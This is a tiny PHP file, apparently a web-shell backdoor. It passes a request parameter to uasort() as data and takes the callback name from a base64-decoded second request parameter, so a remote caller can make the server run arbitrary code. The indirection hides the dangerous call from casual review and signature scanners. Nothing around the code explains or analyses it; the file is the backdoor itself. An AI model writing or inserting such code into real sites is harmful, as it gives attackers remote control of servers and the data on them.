<?php
$arr = array('test', $_REQUEST['pass']);
uasort($arr, base64_decode($_REQUEST['e']));
